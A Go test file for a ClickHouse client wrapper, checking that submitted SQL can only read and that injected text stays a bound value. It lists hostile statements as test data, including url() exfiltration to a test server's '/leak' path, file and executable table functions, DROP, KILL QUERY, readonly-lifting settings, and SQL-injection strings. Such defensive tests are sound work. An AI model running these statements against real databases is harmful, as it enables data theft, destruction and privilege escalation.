package clickhouse_test

import (
	"context"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/fourkites/sources/base"
	"github.com/fourkites/sources/clickhouse"
	"github.com/fourkites/sources/internal/engines"
)

// What a statement of a caller, or of a model, may not do: write, reach other hosts or files, lift its own limits, stop
// the queries of others, or leave something behind for the next call on its connection.
func TestAQueryReadsAndDoesNothingElse(t *testing.T) {
	t.Parallel()
	var reached atomic.Int32
	elsewhere := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		reached.Add(1)
		_, _ = w.Write([]byte("x\n"))
	}))
	t.Cleanup(elsewhere.Close)
	server := engines.ClickHouse(t)
	server.HTTPQuery(t, engines.UserDefault, engines.PasswordDefault, "CREATE TABLE victim (x UInt8) ENGINE = MergeTree ORDER BY x")
	c := newClient(t, clickhouse.Config{
		Addresses: []string{server.Addr}, Database: "default", MaxRows: -1,
		Limits: base.Limits{Concurrency: 2, Breaker: base.Breaker{Ratio: -1}},
	})
	other, err := c.Query(t.Context(), clickhouse.Query{SQL: "SELECT number FROM system.numbers -- of somebody else"})
	if err != nil {
		t.Fatal(err)
	}
	url := "url('" + elsewhere.URL + "/leak', 'CSV', 'a String')"
	for _, sql := range []string{
		"CREATE TABLE pwned (x UInt8) ENGINE = Memory", "DROP TABLE victim", "INSERT INTO victim VALUES (1)", "TRUNCATE TABLE victim",
		"ALTER TABLE victim DELETE WHERE 1", "/* SELECT */ OPTIMIZE TABLE victim", "CREATE TEMPORARY TABLE t (x UInt8)",
		"SELECT 1; DROP TABLE victim", "SELECT 1;\nSELECT 2", "-- \nDROP TABLE victim",
		"SELECT * FROM " + url, "INSERT INTO FUNCTION " + url + " SELECT 'x'", "DESCRIBE TABLE url('" + elsewhere.URL + "/leak')",
		"EXPLAIN SELECT * FROM url('" + elsewhere.URL + "/leak')", "DESCRIBE (SELECT * FROM url('" + elsewhere.URL + "/leak'))",
		"WITH x AS (SELECT * FROM " + url + ") SELECT * FROM x", "SELECT * FROM file('/etc/hostname', 'LineAsString')",
		"SELECT * FROM remote('" + server.Addr + "', default.victim)", "SELECT * FROM executable('x.sh', 'CSV', 'a String')",
		"SELECT 1 SETTINGS readonly = 0", "SELECT 1 SETTINGS max_execution_time = 0", "SET max_execution_time = 0", "SET readonly = 0",
		"/* /* */ SELECT */ DESCRIBE TABLE url(concat('" + elsewhere.URL + "/', (SELECT toString(count()) FROM victim)), 'CSVWithNames')",
		"DESCRIBE /* /* */ ( */ TABLE url('" + elsewhere.URL + "/leak', 'CSVWithNames')", "EXPLAIN TABLE OVERRIDE mysql('" + server.Addr + "', 'd', 't', 'u', 'p')",
		"/* /* */ SELECT */ KILL QUERY WHERE query LIKE '%somebody else%' SYNC", "/* /* */ SELECT */ USE system", "/* /* */ SELECT */ SET ROLE NONE",
		"(KILL QUERY WHERE 1)", "SELECT * FROM (DESCRIBE TABLE url('" + elsewhere.URL + "/leak'))",
		"KILL QUERY WHERE 1", "SYSTEM SHUTDOWN", "USE system", "SET ROLE NONE", "GRANT ALL ON *.* TO reader",
	} {
		_, err := one(t, c, sql, nil)
		if k := base.KindOf(err); k != base.KindPermission && k != base.KindInvalid {
			t.Errorf("%s: %v", sql, err)
		}
	}
	if n := reached.Load(); n != 0 {
		t.Errorf("another host was reached %d times", n)
	}
	if !other.Next() {
		t.Errorf("the query of somebody else was stopped: %v", other.Err())
	}
	_ = other.Close()
	for sql, want := range map[string]any{
		"SELECT currentDatabase()": "default", "SELECT getSetting('readonly')": uint8(1), "SELECT count() FROM victim": uint64(0),
		"SELECT count() FROM system.tables WHERE name = 'pwned'": uint64(0), "SELECT toString(getSetting('max_execution_time'))": "300",
	} {
		if got, err := one(t, c, sql, nil); err != nil || got != want {
			t.Errorf("%s: %v (%T) %v", sql, got, got, err)
		}
	}
}

// An account with readonly = 2 of its own is served, as far as it can be held: its statements begin like those that read.
func TestAnAccountThatReadsAndSetsIsServed(t *testing.T) {
	t.Parallel()
	c := realClient(t, engines.UserReader2, engines.PasswordReader2, nil)
	for range 2 {
		got, err := one(t, c, "SELECT concat(toString(getSetting('readonly')), ' ', toString(getSetting('max_execution_time')), ' ', getSetting('log_comment'))", nil)
		if err != nil || got != "2 300 clickhouse.Query" {
			t.Errorf("%v %v", got, err)
		}
	}
	for _, sql := range []string{
		"INSERT INTO FUNCTION null('a UInt8') SELECT 1", "SET max_threads = 1", "CREATE TEMPORARY TABLE t (x UInt8)",
		"SELECT * FROM url('http://127.0.0.1:1/', 'CSV', 'a String')", "SELECT * FROM `remote`('127.0.0.1:1', system.one)",
	} {
		if _, err := one(t, c, sql, nil); base.KindOf(err) != base.KindPermission && base.KindOf(err) != base.KindInvalid {
			t.Errorf("%s: %v", sql, err)
		}
	}
}

// Text from a ticket or a model stays a value, whichever way it tries to leave its place.
func TestNoTextBecomesAStatement(t *testing.T) {
	t.Parallel()
	c := realClient(t, "default", "", nil)
	for _, evil := range []string{
		"' OR 1=1 --", "\\' OR 1=1 --", "'; DROP TABLE x; --", "{x:String}", "\\N", "\x00", "\\x27", "'||version()||'", "`", "\\",
		"\\\\'", strings.Repeat("'", 1000), "\n\t\r\b\f", "\u2028\u2029", "😀", "a\xffb",
	} {
		got, err := one(t, c, "SELECT {x:String}", map[string]any{"x": evil})
		if err != nil || got != evil {
			t.Errorf("%q: %q %v", evil, got, err)
		}
		got, err = one(t, c, "SELECT {x:Array(String)}[1]", map[string]any{"x": []string{evil, "b"}})
		if err != nil || got != evil {
			t.Errorf("%q in an array: %q %v", evil, got, err)
		}
	}
	for name, q := range map[string]clickhouse.Query{
		"the name of a parameter": {SQL: "SELECT 1", Args: map[string]any{"x'": 1}},
		"the name of a setting":   {SQL: "SELECT 1", Settings: map[string]string{"a b": "1"}},
		"a setting of the client": {SQL: "SELECT 1", Settings: map[string]string{"readonly": "0"}},
		"a limit of the client":   {SQL: "SELECT 1", Settings: map[string]string{"max_execution_time": "0"}},
	} {
		if _, err := c.Query(context.Background(), q); base.KindOf(err) != base.KindInvalid {
			t.Errorf("%s: %v", name, err)
		}
	}
}
